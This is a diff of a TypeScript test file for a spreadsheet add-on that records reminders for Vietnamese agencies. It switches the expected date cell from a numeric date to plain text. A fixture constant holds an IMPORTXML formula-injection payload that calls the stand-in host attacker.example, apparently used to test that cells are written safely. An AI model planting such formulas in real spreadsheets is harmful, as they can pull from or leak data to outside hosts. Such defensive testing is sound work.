@@ -14,7 +14,6 @@ const TAB = `${REMINDERS_TAB.tab} – Năm 2021`;
 const HOSTILE = '=IMPORTXML("https://attacker.example";"//a")';
 const HEAD_ROW = 4;
 /** 10/12/2021 as the spreadsheet counts days. */
-const TENTH_OF_DECEMBER = 44_540;
 const COLUMNS = Object.keys(REMINDERS_TAB.columns) as (keyof typeof REMINDERS_TAB.columns)[];
 /** The hidden key stands before them. */
 const columnOf = (id: keyof typeof REMINDERS_TAB.columns) => COLUMNS.indexOf(id) + 2;
@@ -143,7 +142,7 @@ describe("marking as reminded", () => {
 });
 
 describe("the tab", () => {
-  test("holds a row an agency: numbers as numbers, days as days, words as text", async () => {
+  test("holds a row an agency: numbers as numbers, all else as text", async () => {
     const desk = await office.sitDown("tong-hop-1");
     const marked = value(desk.addon.markReminded(PERIOD, ["so-ke-hoach-dau-tu"]));
     const written = value(desk.addon.writeReminders(PERIOD));
@@ -162,7 +161,7 @@ describe("the tab", () => {
     };
     expect(cellOf("so-ke-hoach-dau-tu", "left")).toEqual([7, "#,##0"]);
     expect(cellOf("ubnd-ba-tri", "late")).toEqual([0, "#,##0"]);
-    expect(cellOf("so-ke-hoach-dau-tu", "last")).toEqual([TENTH_OF_DECEMBER, "dd/mm/yyyy"]);
+    expect(cellOf("so-ke-hoach-dau-tu", "last")).toEqual(["10/12/2021", "@"]);
     expect(cellOf("ubnd-ba-tri", "contact")).toEqual([
       "Người minh họa, 0275 3000 000; Người minh họa B, bao-cao-ubnd-ba-tri@demo.example",
       "@",
@@ -233,7 +232,7 @@ describe("the tab", () => {
     expect(value(desk.addon.writeReminders(PERIOD)).aside).toBe(null);
     expect([textAt(desk, "so-tai-chinh", "note"), textAt(desk, "so-tai-chinh", "last")]).toEqual([
       "5/11/2021",
-      String(TENTH_OF_DECEMBER),
+      "10/12/2021",
     ]);
   });
 
